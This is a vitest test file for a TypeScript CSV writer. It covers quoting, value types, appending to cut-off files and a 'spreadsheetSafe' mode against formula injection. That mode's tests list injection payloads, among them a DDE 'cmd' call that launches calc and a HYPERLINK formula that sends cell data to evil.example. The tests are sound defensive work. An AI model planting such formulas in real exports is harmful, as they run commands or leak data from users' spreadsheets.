import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { lastValueFrom, of, toArray } from 'rxjs';
import { describe, expect, it } from 'vitest';
import { csvSink, toCsv, type CsvOptions } from '../../src/items/index.js';
import { describeShared } from '../helpers/shared-cases.js';
import { scratchFolder } from '../helpers/scratch-folder.js';
import { parseCsv } from './parse-csv.js';

const folder = scratchFolder();
let files = 0;
const newPath = () => join(folder, `${files++}.csv`);
const read = (path: string) => readFileSync(path, 'utf8');

async function write(
  items: readonly object[],
  options: CsvOptions = {},
  path = newPath(),
): Promise<string> {
  await lastValueFrom(of(...items).pipe(toCsv(path, options), toArray()));
  return read(path);
}

describe('toCsv', () => {
  it('writes a row of names, then one an item', async () => {
    expect(
      await write([
        { a: 1, b: 'x' },
        { b: 'y', c: 'left out' },
      ]),
    ).toBe('a,b\r\n1,x\r\n,y\r\n');
    expect(await write([{ a: 1, b: 'x' }], { columns: ['b', 'none', 'a'] })).toBe(
      'b,none,a\r\nx,,1\r\n',
    );
  });

  it('quotes what needs it', async () => {
    const values = ['a,b', 'say "x"', 'two\nlines', 'cr\r', ' blank ', ''];
    const csv = await write([Object.fromEntries(values.entries())]);
    expect(csv.split('\r\n')[0]).toBe('0,1,2,3,4,5');
    expect(csv).toContain('\r\n"a,b","say ""x""","two\nlines","cr\r"," blank ",\r\n');
    expect(await write([{ a: '' }, { a: null }])).toBe('a\r\n""\r\n""\r\n');
  });

  it('writes values of all kinds', async () => {
    const item = {
      none: undefined,
      nil: null,
      yes: true,
      big: 10n,
      date: new Date(0),
      noDate: new Date(NaN),
      list: [1, 'a'],
      object: { x: null },
    };
    expect(parseCsv(await write([item]))[1]).toEqual([
      '',
      '',
      'true',
      '10',
      '1970-01-01T00:00:00.000Z',
      '',
      '[1,"a"]',
      '{"x":null}',
    ]);
  });

  it('takes own fields only', async () => {
    const csv = await write([{ a: 1 }], { columns: ['constructor', '__proto__', 'a'] });
    expect(csv).toBe('constructor,__proto__,a\r\n,,1\r\n');
  });

  it('keeps spreadsheets from running what it writes, if asked', async () => {
    const values = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      '\n=1',
      ' =1',
      '＝1',
      '\u00a0=1',
      'a=1',
      '"=1',
      '',
    ];
    const items = values.map((value) => ({ value }));
    expect(
      parseCsv(await write(items))
        .slice(1)
        .flat(),
    ).toEqual(values);
    const safe = parseCsv(await write(items, { spreadsheetSafe: true }))
      .slice(1)
      .flat();
    expect(safe.map((cell, i) => (cell === values[i] ? '' : cell.charAt(0)))).toEqual([
      ...Array.from({ length: 10 }, () => "'"),
      '',
      '',
      '',
    ]);
    expect(await write([{ '=n': -5 }], { spreadsheetSafe: true })).toBe("'=n\r\n-5\r\n");
  });

  // What runs in one spreadsheet or another, and what must not be touched.
  it.each([
    ...['=1+1', "=cmd|' /C calc'!A0", '+1-1', '-2+3', '@SUM(1)', '==1', '=', '-', '+', '@'],
    ...['=HYPERLINK("http://evil.example/?"&A1)', '=IMPORTXML("//x")', '=WEBSERVICE("//x")'],
    ...['\t=1', '\r=1', '\n=1', '\r\n=1', ' =1', '   +1', '\v=1', '\f=1', '\t', '\r', '\n', '\tx'],
    ...['\u00a0=1', '\u3000=1', '\u2003@x', '\ufeff=1', '\u2028=1', '\u200b=1', '\u00ad=1'],
    ...['\0=1', '\x1b=1', '\u0085=1', '\u2060-1', '\u180e=1', '\u200e=1', ' \u200b \t=1'],
    ...['＝1+1', '＋1', '－1', '＠x', '\u200b＝1', '﹦1', '﹢1', '﹣1', '﹫x', ' ＝1'],
  ])('lets no spreadsheet run %j', async (value) => {
    const [, cells] = parseCsv(await write([{ a: 1, value, z: 2 }], { spreadsheetSafe: true }));
    expect(cells).toEqual(['1', `'${value}`, '2']);
    const [, plain] = parseCsv(await write([{ a: 1, value, z: 2 }]));
    expect(plain).toEqual(['1', value, '2']);
  });

  it.each([
    'a=1',
    'a',
    "'=1",
    '"=1',
    '1-1',
    '.=1',
    '_=',
    'é',
    '😀=1',
    '（=1',
    '',
    '−1',
    '5',
    '#=1',
  ])('leaves %j as it is', async (value) => {
    const [, cells] = parseCsv(await write([{ a: 1, value }], { spreadsheetSafe: true }));
    expect(cells).toEqual(['1', value]);
  });

  it('quotes what other spreadsheets take for the end of a cell, if asked', async () => {
    const items = [{ a: 'x;=1' }, { a: 'x\t=1' }];
    expect(await write(items, { spreadsheetSafe: true })).toBe('a\r\n"x;=1"\r\n"x\t=1"\r\n');
    expect(await write(items)).toBe('a\r\nx;=1\r\nx\t=1\r\n');
  });

  it('round-trips any text', async () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', '"', ',', '\r', '\n', ' ', '=', "'", 'é', '\0'),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1 }), async (rows) => {
        const csv = await write(
          rows.map(([a, b]) => ({ a, b })),
          { columns: ['a', 'b'] },
        );
        expect(parseCsv(csv)).toEqual([['a', 'b'], ...rows]);
      }),
      { numRuns: 50 },
    );
  });

  it.each([
    ['', 'a,b\r\n'],
    ['a,b\r\n', 'a,b\r\n'],
    ['a,b\r\n1,2\r\n3', 'a,b\r\n1,2\r\n'],
    ['a,b\r\n1,"two\nlines', 'a,b\r\n'],
    ['a,b\r\n1,"two\r\nlines"\r\n"', 'a,b\r\n1,"two\r\nlines"\r\n'],
    ['a,', 'a,b\r\n'],
  ])('goes on behind the last whole row of %j', async (before, kept) => {
    const path = newPath();
    writeFileSync(path, before);
    expect(await write([{ a: 8, b: 9 }], { mode: 'append' }, path)).toBe(`${kept}8,9\r\n`);
  });

  it('repairs a file that was cut at any byte', async () => {
    const rows = [
      ['1', 'say "é"\r\n, 😀'],
      ['2', '"'],
      ['3', '\r\n"\r\n'],
      ['4', ''],
    ];
    const items = rows.map(([a, b]) => ({ a, b }));
    const whole = Buffer.from(await write(items));
    for (let cut = 0; cut <= whole.length; cut++) {
      const path = newPath();
      writeFileSync(path, whole.subarray(0, cut));
      const kept = parseCsv(await write([{ a: 8, b: 9 }], { mode: 'append' }, path)).slice(1, -1);
      expect(kept).toEqual(rows.slice(0, kept.length));
    }
  });

  it('appends to a file with the same columns only', async () => {
    const path = newPath();
    writeFileSync(path, 'a,b\r\n1,2\r\n');
    await expect(write([{ b: 1 }], { mode: 'append' }, path)).rejects.toThrow(
      'expected the columns b, the file has a,b',
    );
    await expect(write([{ b: 1 }], {}, path)).rejects.toThrow('the file exists');
    expect(read(path)).toBe('a,b\r\n1,2\r\n');
  });

  it.each(['\ufeffa,b\r\n', 'a,b\n', '\ufeffa,b\n'])(
    'appends to a file that another program has saved: %j',
    async (head) => {
      const path = newPath();
      writeFileSync(path, `${head}1,2\n`);
      expect(await write([{ a: 3, b: 4 }], { mode: 'append' }, path)).toBe(`${head}1,2\n3,4\r\n`);
      await expect(write([{ c: 1 }], { mode: 'append' }, path)).rejects.toThrow('the columns c');
    },
  );

  it('names the columns that were given, also of no items', async () => {
    expect(await write([], { columns: ['a', 'b'] })).toBe('a,b\r\n');
    expect(await write([])).toBe('');
    const path = newPath();
    writeFileSync(path, 'a,b\r\n1,2\r\n');
    const append = { mode: 'append', columns: ['a', 'b'] } as const;
    expect(await write([], append, path)).toBe('a,b\r\n1,2\r\n');
    expect(await write([{ a: 3, b: 4 }], append, path)).toBe('a,b\r\n1,2\r\n3,4\r\n');
    // Before there is an item.
    await expect(write([], { mode: 'append', columns: ['b'] }, path)).rejects.toThrow(
      'expected the columns b, the file has a,b',
    );
    expect(read(path)).toBe('a,b\r\n1,2\r\n3,4\r\n');
  });

  it('refuses wrong options and values', async () => {
    expect(() => toCsv('x', { columns: [] })).toThrow('toCsv: columns: expected');
    expect(() => toCsv('x', { columns: ['a', 'b', 'a'] })).toThrow('got "a" twice');
    expect(() => csvSink('x', { safe: true } as never)).toThrow('unknown option "safe"');
    const cycle: Record<string, unknown> = {};
    cycle['self'] = cycle;
    await expect(write([{ cycle }])).rejects.toMatchObject({ code: 'sink-failed' });
    await expect(write([{ run: () => 1 }])).rejects.toThrow('is a function');
  });

  it.each([undefined, null, 5, 'x', 1n, () => 1, Symbol('x')])(
    'refuses an item that is no object: %s',
    async (item) => {
      const path = newPath();
      await expect(write([item as never], {}, path)).rejects.toMatchObject({
        code: 'sink-failed',
        message: expect.stringContaining('expected an object, got') as string,
      });
      expect(read(path)).toBe('');
    },
  );

  it('refuses an item that cannot be read, and goes on', async () => {
    const path = newPath();
    const sink = csvSink<object>(path);
    const hostile = [
      {
        get a(): string {
          throw new Error('no');
        },
      },
      new Proxy({}, { ownKeys: () => expect.fail('no') }),
    ];
    for (const item of hostile) {
      await expect(lastValueFrom(sink(item))).rejects.toMatchObject({ code: 'sink-failed' });
    }
    await lastValueFrom(sink({ a: 1 }));
    await lastValueFrom(sink.close(), { defaultValue: undefined });
    expect(read(path)).toBe('a\r\n1\r\n');
  });

  it('takes no columns from an item that has no fields', async () => {
    const path = newPath();
    const sink = csvSink<object>(path);
    await expect(lastValueFrom(sink({}))).rejects.toThrow('no fields');
    await lastValueFrom(sink({ a: 1 }));
    await lastValueFrom(sink({}));
    await lastValueFrom(sink.close(), { defaultValue: undefined });
    expect(read(path)).toBe('a\r\n1\r\n""\r\n');
  });

  it('leaves numbers alone, also below zero, and what has no form in JSON empty', async () => {
    const item = { a: -1, b: -1n, c: { toJSON: () => undefined } };
    expect(await write([item], { spreadsheetSafe: true })).toBe('a,b,c\r\n-1,-1,\r\n');
  });
});

describeShared('downloads/blns.json', (path) => {
  it('round-trips naughty strings, as values and as names', async () => {
    const strings = JSON.parse(readFileSync(path, 'utf8')) as string[];
    const csv = await write(strings.map((value) => ({ value })));
    expect(parseCsv(csv)).toEqual([['value'], ...strings.map((value) => [value])]);
    const named = await write([Object.fromEntries(strings.map((name) => [name, 1]))]);
    expect(parseCsv(named)[0]).toEqual([
      ...new Set(Object.keys(Object.fromEntries(strings.map((s) => [s, 1])))),
    ]);
  });
});

describeShared('security/output.json', (path) => {
  interface Case {
    id: string;
    value: unknown;
    expect: { csv?: string; jsonl?: string };
  }
  const { cases } = JSON.parse(readFileSync(path, 'utf8')) as { cases: Case[] };

  it.each(cases.filter((each) => each.expect.csv !== undefined))('$id', async ({ value }) => {
    const plain = parseCsv(await write([{ a: 1, value, z: 2 }]));
    expect(plain[1]).toEqual(['1', value === null ? '' : value, '2']);
    const safe = parseCsv(await write([{ a: 1, value, z: 2 }], { spreadsheetSafe: true }));
    expect(safe[1]).toHaveLength(3);
    expect(safe[1]?.[1]).not.toMatch(/^[=+\-@\t\r]/);
  });
});
